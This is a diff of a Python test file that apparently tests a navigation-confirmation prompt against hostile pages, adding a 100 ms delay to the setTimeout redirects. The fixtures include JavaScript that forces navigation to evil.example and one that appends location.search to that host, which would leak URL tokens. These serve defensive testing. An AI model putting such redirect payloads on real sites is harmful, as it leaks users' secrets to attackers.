@@ -94,7 +94,7 @@ def test_leaving_asks_in_place_and_staying_stays(hostile, asks):
 
 
 def test_what_is_asked_is_not_replaced_under_the_users_hand(hostile, asks):
-    hostile.open("setTimeout(() => { location.href = 'https://harmless.example/' })")
+    hostile.open("setTimeout(() => { location.href = 'https://harmless.example/' }, 100)")
     asks("harmless.example")
     hostile.run("(location.href = 'https://evil.example/', 1)")
     hostile.run("1")
@@ -233,7 +233,9 @@ def test_a_link_that_is_a_file_is_no_page(hostile):
 
 
 def test_the_questions_words_are_all_that_is_shown_of_the_link(hostile, asks):
-    hostile.open("setTimeout(() => { location.href = 'https://evil.example/' + location.search })")
+    hostile.open(
+        "setTimeout(() => { location.href = 'https://evil.example/' + location.search }, 100)"
+    )
     asks("evil.example")
     assert not any("token" in text for text in visible_texts(hostile.pane))
 
